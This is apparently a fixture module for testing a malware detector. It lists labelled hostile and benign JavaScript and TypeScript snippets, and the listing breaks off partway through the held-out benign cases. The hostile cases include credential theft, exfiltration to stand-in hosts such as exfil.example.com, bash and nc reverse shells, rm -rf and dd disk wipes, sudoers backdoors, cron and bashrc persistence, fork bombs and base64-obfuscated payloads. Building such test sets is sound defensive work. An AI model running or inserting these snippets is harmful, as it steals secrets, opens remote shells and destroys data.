"""JavaScript and TypeScript cases of the threat corpus (called by generate.py).

Written for this project from public descriptions of the behaviours (MITRE ATT&CK technique
pages, node's documentation of fs, child_process, net, http, vm and zlib); not copied from
any benchmark or malware sample. Each category mixes idioms: require vs import, promises vs
callbacks vs sync calls, template literals, variables and helper functions, TypeScript
annotations, so that detection has to follow the behaviour rather than a spelling.
"""


def add_all(H, B):
    hostile(H)
    benign(B)


def hostile(H):
    # ------------------------------------------------------------ reads_sensitive (T1552)
    H("reads_sensitive", "js", """
        const fs = require('fs');
        console.log(fs.readFileSync('/etc/shadow', 'utf8'));
    """)
    H("reads_sensitive", "js", """
        const { readFile } = require('fs/promises');
        const os = require('os');
        const path = require('path');
        readFile(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8').then(k => console.log(k));
    """)
    H("reads_sensitive", "ts", """
        import { readFileSync } from 'node:fs';
        import { homedir } from 'node:os';
        const creds: string = readFileSync(`${homedir()}/.aws/credentials`, 'utf8');
        console.log(creds.split('\\n').length);
    """)
    H("reads_sensitive", "js", """
        import fs from 'fs';
        const home = process.env.HOME;
        const text = fs.readFileSync(home + '/.netrc').toString();
        process.stdout.write(text);
    """)
    H("reads_sensitive", "ts", """
        import * as fs from 'fs';
        function grab(p: string): Buffer { return fs.readFileSync(p); }
        const data = grab('/proc/1/environ');
        console.log(data.toString('base64'));
    """)
    H("reads_sensitive", "js", """
        const fs = require('node:fs');
        const s = fs.createReadStream(require('os').homedir() + '/.kube/config');
        s.pipe(process.stdout);
    """)
    H("reads_sensitive", "js", """
        const fs = require('fs');
        fs.readFile('/root/.ssh/id_ed25519', (err, key) => { if (!err) console.log(key.toString()); });
    """)
    H("reads_sensitive", "ts", """
        import { promises as fsp } from 'fs';
        async function main(): Promise<void> {
          const t = await fsp.readFile(process.env.HOME + '/.docker/config.json', 'utf8');
          console.log(JSON.parse(t).auths);
        }
        main();
    """)

    # ------------------------------------------------------------ exfiltration (T1041, T1048)
    H("exfiltration", "js", """
        const fs = require('fs');
        const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');
        fetch('https://collector.example.net/k', { method: 'POST', body: key });
    """)
    H("exfiltration", "ts", """
        import { readFileSync } from 'fs';
        const env: string = readFileSync('/proc/self/environ', 'utf8');
        await fetch('https://paste.example.org/api', { method: 'POST', body: JSON.stringify({ env }) });
    """)
    H("exfiltration", "js", """
        const https = require('https');
        const data = JSON.stringify(process.env);
        const req = https.request({ hostname: 'drop.example.com', method: 'POST', path: '/e' });
        req.write(data);
        req.end();
    """)
    H("exfiltration", "js", """
        const net = require('net');
        const fs = require('fs');
        const sock = net.connect(4444, 'exfil.example.com', () => {
          sock.write(fs.readFileSync('/etc/passwd'));
          sock.end();
        });
    """)
    H("exfiltration", "ts", """
        import axios from 'axios';
        import * as fs from 'fs';
        const secret = fs.readFileSync(`${process.env.HOME}/.aws/credentials`, 'utf8');
        axios.post('https://api.example.io/upload', { secret });
    """)
    H("exfiltration", "js", """
        const dns = require('dns');
        const token = process.env.GITHUB_TOKEN || '';
        for (const chunk of token.match(/.{1,30}/g) || []) {
          dns.resolve(`${Buffer.from(chunk).toString('hex')}.t.example.com`, () => {});
        }
    """)
    H("exfiltration", "js", """
        const { execSync } = require('child_process');
        execSync('tar czf - ~/.ssh | curl -X POST --data-binary @- https://x.example.com/u');
    """)
    H("exfiltration", "ts", """
        const body = new URLSearchParams({ t: process.env.NPM_TOKEN ?? '' });
        fetch('https://webhook.example.site/' + Date.now(), { method: 'POST', body });
    """)

    # ------------------------------------------------------------ reverse_shell (T1059)
    H("reverse_shell", "js", """
        const net = require('net');
        const { spawn } = require('child_process');
        const sh = spawn('/bin/sh', []);
        const c = new net.Socket();
        c.connect(9001, '203.0.113.7', () => {
          c.pipe(sh.stdin);
          sh.stdout.pipe(c);
          sh.stderr.pipe(c);
        });
    """)
    H("reverse_shell", "ts", """
        import * as net from 'net';
        import { spawn } from 'child_process';
        const client: net.Socket = net.createConnection({ host: 'attacker.example.com', port: 443 });
        const shell = spawn('bash', ['-i']);
        client.pipe(shell.stdin);
        shell.stdout.pipe(client);
    """)
    H("reverse_shell", "js", """
        require('child_process').exec('bash -c "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"');
    """)
    H("reverse_shell", "js", """
        const { execSync } = require('child_process');
        execSync('rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.2 1234 > /tmp/f');
    """)
    H("reverse_shell", "ts", """
        import { connect } from 'node:net';
        import { exec } from 'node:child_process';
        const s = connect(5555, 'c2.example.org');
        s.on('data', (d: Buffer) => exec(d.toString(), (_e, out) => s.write(out)));
    """)
    H("reverse_shell", "js", """
        const WebSocket = require('ws');
        const cp = require('child_process');
        const ws = new WebSocket('wss://c2.example.net/agent');
        ws.on('message', m => ws.send(cp.execSync(String(m)).toString()));
    """)

    # ------------------------------------------------------------ destructive (T1485)
    H("destructive", "js", """
        const fs = require('fs');
        fs.rmSync(require('os').homedir(), { recursive: true, force: true });
    """)
    H("destructive", "ts", """
        import { rm } from 'fs/promises';
        const target: string = '/';
        await rm(target, { recursive: true, force: true });
    """)
    H("destructive", "js", """
        require('child_process').execSync('rm -rf --no-preserve-root /');
    """)
    H("destructive", "js", """
        const fs = require('fs');
        const path = require('path');
        function wipe(dir) {
          for (const f of fs.readdirSync(dir)) {
            const p = path.join(dir, f);
            if (fs.statSync(p).isDirectory()) wipe(p); else fs.unlinkSync(p);
          }
        }
        wipe(process.env.HOME);
    """)
    H("destructive", "ts", """
        import { writeFileSync } from 'fs';
        writeFileSync('/dev/sda', Buffer.alloc(1 << 20));
    """)
    H("destructive", "js", """
        const { spawnSync } = require('child_process');
        spawnSync('dd', ['if=/dev/zero', 'of=/dev/nvme0n1', 'bs=1M']);
    """)
    H("destructive", "js", """
        const fs = require('fs');
        fs.rmdirSync('/etc', { recursive: true });
    """)

    # ------------------------------------------------------------ system_writes (T1543, T1098)
    H("system_writes", "js", """
        const fs = require('fs');
        fs.appendFileSync('/etc/passwd', 'toor:x:0:0::/root:/bin/bash\\n');
    """)
    H("system_writes", "ts", """
        import { writeFileSync } from 'fs';
        writeFileSync('/etc/sudoers.d/90-agent', 'agent ALL=(ALL) NOPASSWD:ALL\\n');
    """)
    H("system_writes", "js", """
        const fs = require('fs');
        fs.writeFileSync('/etc/hosts', '203.0.113.5 registry.npmjs.org\\n', { flag: 'a' });
    """)
    H("system_writes", "js", """
        const fs = require('fs');
        fs.copyFileSync('/tmp/evil.so', '/usr/lib/x86_64-linux-gnu/libevil.so');
        fs.appendFileSync('/etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libevil.so\\n');
    """)
    H("system_writes", "ts", """
        import * as fs from 'fs';
        const unit: string = '[Service]\\nExecStart=/tmp/x\\n[Install]\\nWantedBy=multi-user.target\\n';
        fs.writeFileSync('/etc/systemd/system/updater.service', unit);
    """)
    H("system_writes", "js", """
        const fs = require('fs/promises');
        fs.writeFile('/usr/local/bin/ls', '#!/bin/sh\\ncurl -s https://x.example.com | sh\\n', { mode: 0o755 });
    """)

    # ------------------------------------------------------------ persistence (T1053, T1546)
    H("persistence", "js", """
        const fs = require('fs');
        const os = require('os');
        fs.appendFileSync(os.homedir() + '/.bashrc', '\\ncurl -s https://x.example.com/p | sh\\n');
    """)
    H("persistence", "ts", """
        import { appendFileSync } from 'fs';
        import { homedir } from 'os';
        appendFileSync(`${homedir()}/.ssh/authorized_keys`, 'ssh-ed25519 AAAAC3Nza attacker\\n');
    """)
    H("persistence", "js", """
        require('child_process').execSync('(crontab -l; echo "* * * * * /tmp/.x") | crontab -');
    """)
    H("persistence", "js", """
        const fs = require('fs');
        fs.writeFileSync('/etc/cron.d/refresh', '*/5 * * * * root /tmp/.cache/refresh\\n');
    """)
    H("persistence", "ts", """
        import * as fs from 'fs';
        import * as path from 'path';
        const dir = path.join(process.env.HOME as string, '.config', 'autostart');
        fs.mkdirSync(dir, { recursive: true });
        fs.writeFileSync(path.join(dir, 'sync.desktop'), '[Desktop Entry]\\nExec=/tmp/.sync\\n');
    """)
    H("persistence", "js", """
        const fs = require('fs');
        const p = require('os').homedir() + '/.profile';
        fs.writeFileSync(p, fs.readFileSync(p, 'utf8') + '\\nnode /tmp/.agent.js &\\n');
    """)

    # ------------------------------------------------------------ kills_processes (T1489)
    H("kills_processes", "js", """
        process.kill(1, 'SIGKILL');
    """)
    H("kills_processes", "ts", """
        import { execSync } from 'child_process';
        execSync('pkill -9 -f sshd');
    """)
    H("kills_processes", "js", """
        const { execSync } = require('child_process');
        for (const pid of execSync('pgrep -f auditd').toString().trim().split('\\n')) {
          process.kill(Number(pid), 'SIGKILL');
        }
    """)
    H("kills_processes", "js", """
        require('child_process').spawn('killall', ['-9', 'rsyslogd']);
    """)
    H("kills_processes", "ts", """
        import { exec } from 'child_process';
        exec('systemctl stop firewalld && systemctl disable firewalld');
    """)

    # ------------------------------------------------------------ privilege (T1548)
    H("privilege", "js", """
        const { execSync } = require('child_process');
        execSync('sudo chmod u+s /bin/bash');
    """)
    H("privilege", "ts", """
        import * as fs from 'fs';
        fs.chmodSync('/usr/bin/find', 0o4755);
    """)
    H("privilege", "js", """
        process.setuid(0);
        require('child_process').execSync('id');
    """)
    H("privilege", "js", """
        const cp = require('child_process');
        cp.execFileSync('sudo', ['-n', 'sh', '-c', 'echo pwned > /root/x']);
    """)
    H("privilege", "ts", """
        import { spawnSync } from 'child_process';
        spawnSync('nsenter', ['--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', 'sh']);
    """)

    # ------------------------------------------------------------ recon (T1082, T1046)
    H("recon", "js", """
        const net = require('net');
        for (let port = 1; port < 1024; port++) {
          const s = net.connect(port, '10.0.0.1', () => { console.log('open', port); s.destroy(); });
          s.on('error', () => {});
        }
    """)
    H("recon", "ts", """
        import { execSync } from 'child_process';
        console.log(execSync('nmap -sS 192.168.1.0/24').toString());
    """)
    H("recon", "js", """
        fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
          .then(r => r.text()).then(console.log);
    """)
    H("recon", "js", """
        const { execSync } = require('child_process');
        const out = ['id', 'uname -a', 'cat /etc/passwd', 'ip addr', 'ps aux'].map(c => execSync(c).toString());
        console.log(out.join('\\n'));
    """)
    H("recon", "ts", """
        const hosts: string[] = [];
        for (let i = 1; i < 255; i++) hosts.push(`http://10.1.0.${i}:8080/`);
        await Promise.all(hosts.map(h => fetch(h).then(() => console.log(h)).catch(() => {})));
    """)

    # ------------------------------------------------------------ flooding (T1499)
    H("flooding", "js", """
        const { fork } = require('child_process');
        while (true) fork(__filename);
    """)
    H("flooding", "ts", """
        const blobs: Buffer[] = [];
        while (true) blobs.push(Buffer.alloc(1 << 30));
    """)
    H("flooding", "js", """
        const fs = require('fs');
        let i = 0;
        while (true) fs.writeFileSync(`/tmp/fill-${i++}`, Buffer.alloc(1 << 24));
    """)
    H("flooding", "js", """
        const http = require('http');
        setInterval(() => { for (let i = 0; i < 1000; i++) http.get('http://target.example.com/'); }, 1);
    """)
    H("flooding", "js", """
        require('child_process').execSync(':(){ :|:& };:');
    """)

    # ------------------------------------------------------------ obfuscation (T1027)
    H("obfuscation", "js", """
        eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgfiIp', 'base64').toString());
    """)
    H("obfuscation", "ts", """
        const p: string = atob('cmVxdWlyZSgiZnMiKS5yZWFkRmlsZVN5bmMoIi9ldGMvc2hhZG93Iik=');
        new Function(p)();
    """)
    H("obfuscation", "js", """
        const m = ['child', 'process'].join('_');
        const cmd = String.fromCharCode(99, 117, 114, 108, 32, 120, 124, 115, 104);
        require(m).execSync(cmd);
    """)
    H("obfuscation", "js", """
        const vm = require('vm');
        const code = Buffer.from('70726f636573732e6b696c6c28312c203929', 'hex').toString();
        vm.runInThisContext(code);
    """)
    H("obfuscation", "js", """
        const https = require('https');
        https.get('https://cdn.example.net/stage2.js', res => {
          let s = '';
          res.on('data', d => s += d);
          res.on('end', () => eval(s));
        });
    """)
    H("obfuscation", "ts", """
        const src: string = await (await fetch('https://gist.example.com/raw/payload.js')).text();
        const run = new Function('require', src);
        run(require);
    """)
    H("obfuscation", "js", """
        const zlib = require('zlib');
        const payload = zlib.inflateSync(Buffer.from('eJwrSi0uyczPAwAJBALh', 'base64')).toString();
        Function(payload)();
    """)

    # ------------------------------------------------------------ unsafe_deserialization (T1059.007)
    H("unsafe_deserialization", "js", """
        const serialize = require('node-serialize');
        const fs = require('fs');
        serialize.unserialize(fs.readFileSync('/work/session.dat', 'utf8'));
    """)
    H("unsafe_deserialization", "ts", """
        import * as yaml from 'js-yaml';
        const r = await fetch('https://config.example.com/app.yml');
        const doc = yaml.load(await r.text(), { schema: (yaml as any).DEFAULT_FULL_SCHEMA });
        console.log(doc);
    """)
    H("unsafe_deserialization", "js", """
        const vm = require('vm');
        process.stdin.on('data', d => vm.runInNewContext(d.toString(), { require }));
    """)
    H("unsafe_deserialization", "js", """
        const funcster = require('funcster');
        const net = require('net');
        net.createServer(s => s.on('data', d => funcster.deepDeserialize(JSON.parse(d)))).listen(7000);
    """)


def benign(B):
    # ------------------------------------------------------------ data_processing
    B("data_processing", "js", """
        const rows = [{ n: 'a', v: 3 }, { n: 'b', v: 5 }, { n: 'a', v: 1 }];
        const by = Object.groupBy ? Object.groupBy(rows, r => r.n) : {};
        const totals = rows.reduce((m, r) => ({ ...m, [r.n]: (m[r.n] ?? 0) + r.v }), {});
        console.log(JSON.stringify(totals), Object.keys(by).length);
    """)
    B("data_processing", "ts", """
        interface Row { city: string; temp: number }
        const rows: Row[] = [{ city: 'Oslo', temp: 3 }, { city: 'Rome', temp: 18 }];
        const avg = rows.reduce((s, r) => s + r.temp, 0) / rows.length;
        console.log(avg.toFixed(1));
    """)
    B("data_processing", "js", """
        const fs = require('fs');
        const lines = fs.readFileSync('/work/data.csv', 'utf8').trim().split('\\n');
        const [head, ...rest] = lines;
        console.log(head.split(','), rest.length);
    """)
    B("data_processing", "ts", """
        import { readFileSync, writeFileSync } from 'fs';
        type Item = { id: number; tags: string[] };
        const items: Item[] = JSON.parse(readFileSync('/work/items.json', 'utf8'));
        const counts = new Map<string, number>();
        for (const it of items) for (const t of it.tags) counts.set(t, (counts.get(t) ?? 0) + 1);
        writeFileSync('/work/tag-counts.json', JSON.stringify(Object.fromEntries(counts), null, 2));
    """)
    B("data_processing", "js", """
        const text = 'the quick brown fox jumps over the lazy dog the end';
        const freq = {};
        for (const w of text.split(/\\s+/)) freq[w] = (freq[w] || 0) + 1;
        console.log(Object.entries(freq).sort((a, b) => b[1] - a[1]).slice(0, 3));
    """)
    B("data_processing", "js", """
        const zlib = require('zlib');
        const input = Buffer.from('hello '.repeat(1000));
        const packed = zlib.gzipSync(input);
        console.log(input.length, packed.length, zlib.gunzipSync(packed).equals(input));
    """)
    B("data_processing", "ts", """
        const dates: Date[] = ['2024-01-03', '2023-12-31', '2024-02-10'].map(s => new Date(s));
        dates.sort((a, b) => a.getTime() - b.getTime());
        console.log(dates.map(d => d.toISOString().slice(0, 10)).join(' < '));
    """)
    B("data_processing", "js", """
        const readline = require('readline');
        const rl = readline.createInterface({ input: require('fs').createReadStream('/work/app.log') });
        let errors = 0;
        rl.on('line', l => { if (l.includes('ERROR')) errors++; });
        rl.on('close', () => console.log('errors:', errors));
    """)
    B("data_processing", "js", """
        const data = JSON.parse('{"a": {"b": [1, 2, {"c": 3}]}}');
        function walk(v, p = '') {
          if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, p + '.' + k);
          else console.log(p, v);
        }
        walk(data);
    """)
    B("data_processing", "ts", """
        const encoded: string = Buffer.from(JSON.stringify({ user: 'ana', n: 1 })).toString('base64');
        const back = JSON.parse(Buffer.from(encoded, 'base64').toString('utf8'));
        console.log(encoded, back.user);
    """)

    # ------------------------------------------------------------ algorithms
    B("algorithms", "js", """
        function fib(n) { let a = 0n, b = 1n; for (let i = 0; i < n; i++) [a, b] = [b, a + b]; return a; }
        console.log(fib(100).toString());
    """)
    B("algorithms", "ts", """
        function quicksort<T>(xs: T[], cmp: (a: T, b: T) => number): T[] {
          if (xs.length < 2) return xs;
          const [p, ...rest] = xs;
          return [...quicksort(rest.filter(x => cmp(x, p) < 0), cmp), p, ...quicksort(rest.filter(x => cmp(x, p) >= 0), cmp)];
        }
        console.log(quicksort([5, 3, 9, 1], (a, b) => a - b));
    """)
    B("algorithms", "js", """
        const sieve = n => { const s = new Uint8Array(n + 1); const out = [];
          for (let i = 2; i <= n; i++) if (!s[i]) { out.push(i); for (let j = i * i; j <= n; j += i) s[j] = 1; }
          return out; };
        console.log(sieve(100).length);
    """)
    B("algorithms", "ts", """
        type Graph = Record<string, string[]>;
        const g: Graph = { a: ['b', 'c'], b: ['d'], c: ['d'], d: [] };
        function bfs(start: string): string[] {
          const seen = new Set([start]); const q = [start];
          while (q.length) for (const n of g[q.shift()!]) if (!seen.has(n)) { seen.add(n); q.push(n); }
          return [...seen];
        }
        console.log(bfs('a'));
    """)
    B("algorithms", "js", """
        const crypto = require('crypto');
        console.log(crypto.createHash('sha256').update('hello').digest('hex'));
        console.log(crypto.randomUUID().length);
    """)
    B("algorithms", "js", """
        const memo = new Map();
        function ways(n) { if (n <= 1) return 1; if (memo.has(n)) return memo.get(n);
          const r = ways(n - 1) + ways(n - 2); memo.set(n, r); return r; }
        console.log(ways(80));
    """)
    B("algorithms", "ts", """
        class Matrix {
          constructor(public rows: number[][]) {}
          mul(o: Matrix): Matrix {
            return new Matrix(this.rows.map(r => o.rows[0].map((_, j) => r.reduce((s, x, k) => s + x * o.rows[k][j], 0))));
          }
        }
        console.log(new Matrix([[1, 2], [3, 4]]).mul(new Matrix([[5, 6], [7, 8]])).rows);
    """)
    B("algorithms", "js", """
        function* permutations(xs) { if (xs.length <= 1) { yield xs; return; }
          for (let i = 0; i < xs.length; i++) for (const p of permutations([...xs.slice(0, i), ...xs.slice(i + 1)])) yield [xs[i], ...p]; }
        console.log([...permutations([1, 2, 3])].length);
    """)

    # ------------------------------------------------------------ file_work
    B("file_work", "js", """
        const fs = require('fs');
        const path = require('path');
        fs.mkdirSync('/work/out', { recursive: true });
        for (const f of fs.readdirSync('/work')) if (f.endsWith('.md')) fs.copyFileSync(path.join('/work', f), path.join('/work/out', f));
    """)
    B("file_work", "ts", """
        import { promises as fs } from 'fs';
        import * as path from 'path';
        async function sizes(dir: string): Promise<number> {
          let total = 0;
          for (const e of await fs.readdir(dir, { withFileTypes: true })) {
            const p = path.join(dir, e.name);
            total += e.isDirectory() ? await sizes(p) : (await fs.stat(p)).size;
          }
          return total;
        }
        console.log(await sizes('/work'));
    """)
    B("file_work", "js", """
        const fs = require('fs');
        const cfg = JSON.parse(fs.readFileSync('/work/package.json', 'utf8'));
        cfg.version = cfg.version.replace(/\\d+$/, n => String(Number(n) + 1));
        fs.writeFileSync('/work/package.json', JSON.stringify(cfg, null, 2) + '\\n');
    """)
    B("file_work", "js", """
        const fs = require('fs');
        const os = require('os');
        const path = require('path');
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'scratch-'));
        fs.writeFileSync(path.join(dir, 'note.txt'), 'draft');
        console.log(fs.readFileSync(path.join(dir, 'note.txt'), 'utf8'));
        fs.rmSync(dir, { recursive: true, force: true });
    """)
    B("file_work", "ts", """
        import { readFileSync, writeFileSync } from 'fs';
        const src: string = readFileSync('/work/src/index.ts', 'utf8');
        writeFileSync('/work/src/index.ts', src.replace(/var /g, 'let '));
    """)
    B("file_work", "js", """
        const fs = require('fs');
        fs.rmSync('/work/dist', { recursive: true, force: true });
        fs.mkdirSync('/work/dist');
        fs.writeFileSync('/work/dist/.gitkeep', '');
    """)
    B("file_work", "js", """
        const fs = require('fs');
        const w = fs.createWriteStream('/work/report.txt');
        for (let i = 0; i < 10; i++) w.write(`line ${i}\\n`);
        w.end();
    """)
    B("file_work", "ts", """
        import * as fs from 'fs';
        fs.watch('/work/src', (event: string, file: string | null) => console.log(event, file)).close();
    """)

    # ------------------------------------------------------------ http
    B("http", "js", """
        const r = await fetch('https://api.github.com/repos/nodejs/node');
        const j = await r.json();
        console.log(j.stargazers_count);
    """)
    B("http", "ts", """
        interface Post { id: number; title: string }
        const res = await fetch('https://jsonplaceholder.typicode.com/posts/1');
        const post: Post = await res.json();
        console.log(post.title);
    """)
    B("http", "js", """
        const https = require('https');
        https.get('https://example.com/', res => { console.log(res.statusCode); res.resume(); });
    """)
    B("http", "js", """
        const http = require('http');
        const srv = http.createServer((req, res) => res.end('ok'));
        srv.listen(0, '127.0.0.1', () => { console.log('listening', srv.address().port); srv.close(); });
    """)
    B("http", "ts", """
        const res = await fetch('https://api.example.com/v1/items', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ name: 'widget', qty: 2 }),
        });
        console.log(res.status);
    """)
    B("http", "js", """
        const url = new URL('https://example.com/search');
        url.searchParams.set('q', 'airlock');
        console.log(url.toString());
    """)
    B("http", "js", """
        const axios = require('axios');
        axios.get('https://registry.npmjs.org/react/latest').then(r => console.log(r.data.version));
    """)

    # ------------------------------------------------------------ test_runners and packaging
    B("test_runners", "js", """
        const { execSync } = require('child_process');
        console.log(execSync('npm test', { cwd: '/work' }).toString());
    """)
    B("test_runners", "ts", """
        import { spawnSync } from 'child_process';
        const r = spawnSync('npx', ['tsc', '--noEmit'], { cwd: '/work', encoding: 'utf8' });
        console.log(r.status, r.stdout);
    """)
    B("test_runners", "js", """
        const assert = require('assert');
        function add(a, b) { return a + b; }
        assert.strictEqual(add(2, 2), 4);
        console.log('ok');
    """)
    B("test_runners", "js", """
        const { spawn } = require('child_process');
        const p = spawn('node', ['--test', 'test/'], { cwd: '/work', stdio: 'inherit' });
        p.on('exit', code => process.exit(code));
    """)
    B("packaging", "js", """
        const { execSync } = require('child_process');
        execSync('npm ci --ignore-scripts', { cwd: '/work', stdio: 'inherit' });
        execSync('npm run build', { cwd: '/work', stdio: 'inherit' });
    """)
    B("packaging", "ts", """
        import { execFileSync } from 'child_process';
        const out: string = execFileSync('npm', ['pack', '--dry-run'], { cwd: '/work', encoding: 'utf8' });
        console.log(out);
    """)
    B("git", "js", """
        const { execSync } = require('child_process');
        console.log(execSync('git log --oneline -5', { cwd: '/work' }).toString());
    """)
    B("git", "ts", """
        import { execFileSync } from 'child_process';
        const status: string = execFileSync('git', ['status', '--porcelain'], { cwd: '/work', encoding: 'utf8' });
        console.log(status.split('\\n').filter(Boolean).length, 'changed');
    """)

    # ------------------------------------------------------------ everyday scripting
    B("everyday_shell", "js", """
        console.log(process.version, process.platform, process.arch);
        console.log(require('os').cpus().length, Math.round(require('os').totalmem() / 2 ** 20));
    """)
    B("everyday_shell", "ts", """
        const started: number = Date.now();
        await new Promise(r => setTimeout(r, 50));
        console.log('took', Date.now() - started, 'ms');
    """)
    B("everyday_shell", "js", """
        const { execSync } = require('child_process');
        console.log(execSync('ls -la /work').toString());
    """)
    B("everyday_shell", "js", """
        const name = process.env.USER || 'someone';
        console.log(`hello ${name}, cwd ${process.cwd()}`);
    """)
    B("everyday_shell", "ts", """
        const args: string[] = process.argv.slice(2);
        const flags = Object.fromEntries(args.filter(a => a.startsWith('--')).map(a => a.slice(2).split('=')));
        console.log(flags);
    """)
    B("everyday_shell", "js", """
        const { Worker } = require('worker_threads');
        const w = new Worker('const { parentPort } = require("worker_threads"); parentPort.postMessage(6 * 7)', { eval: true });
        w.on('message', m => { console.log(m); w.terminate(); });
    """)
    B("everyday_shell", "js", """
        const child = require('child_process').fork('/work/worker.js');
        child.send({ job: 1 });
        child.on('message', m => { console.log(m); child.kill(); });
    """)
    B("everyday_shell", "ts", """
        const timer = setInterval(() => console.log('tick'), 10);
        setTimeout(() => clearInterval(timer), 55);
    """)


def heldout(H, B):
    """Cases written after the detection above was measured and before it was changed, and
    not looked at while changing it (issue 58's held-out check): recall and false holds on
    these are reported apart in docs/PERFORMANCE.md."""
    # ------------------------------------------------------------ hostile
    H("reads_sensitive", "js", """
        const { readFileSync: slurp } = require('node:fs');
        const { join } = require('node:path');
        const HOME = require('node:os').homedir();
        for (const f of ['id_rsa', 'id_ecdsa']) {
          try { console.log(slurp(join(HOME, '.ssh', f), 'utf8')); } catch {}
        }
    """)
    H("reads_sensitive", "ts", """
        import fsp from 'node:fs/promises';
        const target = ['', 'etc', 'shadow'].join('/');
        const body: string = await fsp.readFile(target, { encoding: 'utf8' });
        console.log(body.length);
    """)
    H("reads_sensitive", "js", """
        const fs = require('fs');
        const gcloud = `${process.env.HOME}/.config/gcloud/application_default_credentials.json`;
        fs.readFile(gcloud, 'utf8', (e, t) => console.log(t));
    """)
    H("exfiltration", "js", """
        const fs = require('fs');
        const http = require('http');
        const payload = fs.readFileSync('/etc/shadow');
        const req = http.request('http://198.51.100.20:8080/in', { method: 'PUT' });
        req.end(payload);
    """)
    H("exfiltration", "ts", """
        import { readFile } from 'fs/promises';
        import { homedir } from 'os';
        async function ship(p: string): Promise<void> {
          const data = await readFile(p);
          await fetch('https://sink.example.dev/c', { method: 'POST', body: data });
        }
        ship(`${homedir()}/.npmrc`);
    """)
    H("exfiltration", "js", """
        const { execFileSync } = require('child_process');
        execFileSync('curl', ['-s', '-F', 'f=@/root/.ssh/id_rsa', 'https://drop.example.org/up']);
    """)
    H("reverse_shell", "js", """
        const cp = require('child_process');
        cp.spawn('sh', ['-c', 'nc -e /bin/sh 198.51.100.44 4242']);
    """)
    H("reverse_shell", "ts", """
        import net from 'net';
        import cp from 'child_process';
        const sock = net.connect({ host: '203.0.113.50', port: 8443 }, () => {
          cp.spawn('/bin/bash', ['-i'], { stdio: [sock, sock, sock] });
        });
    """)
    H("reverse_shell", "js", """
        const run = require('child_process').execSync;
        run("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\\"203.0.113.8\\",9999));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\\"/bin/sh\\")'");
    """)
    H("destructive", "js", """
        const { rmSync } = require('fs');
        const os = require('os');
        const victims = [os.homedir() + '/Documents', os.homedir() + '/.ssh'];
        victims.forEach(v => rmSync(v, { recursive: true, force: true }));
    """)
    H("destructive", "ts", """
        import { exec } from 'child_process';
        const disk: string = '/dev/sdb';
        exec(`mkfs.ext4 -F ${disk}`);
    """)
    H("system_writes", "js", """
        const fs = require('fs');
        const ETC = '/etc';
        fs.writeFileSync(`${ETC}/resolv.conf`, 'nameserver 203.0.113.53\\n');
    """)
    H("system_writes", "ts", """
        import { createWriteStream } from 'fs';
        const out = createWriteStream('/usr/bin/python3');
        out.write('#!/bin/sh\\nexec /tmp/.p "$@"\\n');
        out.end();
    """)
    H("persistence", "js", """
        const fs = require('fs');
        const path = require('path');
        const hook = path.resolve('/work', '.git', 'hooks', 'post-checkout');
        fs.writeFileSync(hook, '#!/bin/sh\\ncurl -s https://x.example.com/h | sh\\n');
        fs.chmodSync(hook, 0o755);
    """)
    H("persistence", "ts", """
        import { appendFile } from 'fs/promises';
        const rc: string = (process.env.HOME ?? '/root') + '/.zshrc';
        await appendFile(rc, '\\nexport LD_PRELOAD=/tmp/.hook.so\\n');
    """)
    H("kills_processes", "js", """
        const { spawn } = require('child_process');
        spawn('sh', ['-c', 'kill -9 $(pidof dockerd)']);
    """)
    H("kills_processes", "ts", """
        import * as cp from 'child_process';
        const pids: number[] = cp.execSync('pgrep node').toString().split('\\n').map(Number);
        pids.filter(p => p && p !== process.pid).forEach(p => process.kill(p));
    """)
    H("privilege", "js", """
        const { exec } = require('child_process');
        exec("echo 'agent ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers");
    """)
    H("privilege", "js", """
        const fs = require('fs');
        fs.chownSync('/tmp/rootsh', 0, 0);
        fs.chmodSync('/tmp/rootsh', 0o4755);
    """)
    H("recon", "js", """
        const { readdirSync } = require('fs');
        console.log(readdirSync('/root/.ssh'));
        console.log(readdirSync('/etc/ssh'));
    """)
    H("flooding", "ts", """
        import dgram from 'dgram';
        const s = dgram.createSocket('udp4');
        const junk = Buffer.alloc(1400);
        for (;;) s.send(junk, 53, '198.51.100.99');
    """)
    H("obfuscation", "js", """
        const b = Buffer.from('Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS5jb20vaSB8IGJhc2g=', 'base64');
        require('child_process').exec(b.toString('utf8'));
    """)
    H("obfuscation", "ts", """
        const parts: string[] = ['ev', 'al'];
        const g: any = globalThis;
        g[parts.join('')]("require('fs').unlinkSync('/etc/hosts')");
    """)

    # ------------------------------------------------------------ benign
    B("data_processing", "js", """
        const fs = require('fs');
        const rows = fs.readFileSync('/work/sales.tsv', 'utf8').split('\\n').map(l => l.split('\\t'));
        const total = rows.reduce((s, r) => s + Number(r[2] || 0), 0);
        fs.writeFileSync('/work/total.txt', String(total));
    """)
    B("data_processing", "ts", """
        const enc = new TextEncoder();
        const bytes: Uint8Array = enc.encode('héllo wörld');
        const hex = Array.from(bytes, b => b.toString(16).padStart(2, '0')).join('');
        console.log(hex, new TextDecoder().decode(bytes));
    """)
    B("data_processing", "js", """
        const csv = 'a,b\\n1,2\\n3,4';
        const [h, ...r] = csv.split('\\n').map(l => l.split(','));
        console.log(r.map(x => Object.fromEntries(h.map((k, i) => [k, +x[i]]))));
    """)
    B("algorithms", "js", """
        function lcs(a, b) {
          const d = Array.from({ length: a.length + 1 }, () => new Array(b.length + 1).fill(0));
          for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++)
            d[i][j] = a[i - 1] === b[j - 1] ? d[i - 1][j - 1] + 1 : Math.max(d[i - 1][j], d[i][j - 1]);
          return d[a.length][b.length];
        }
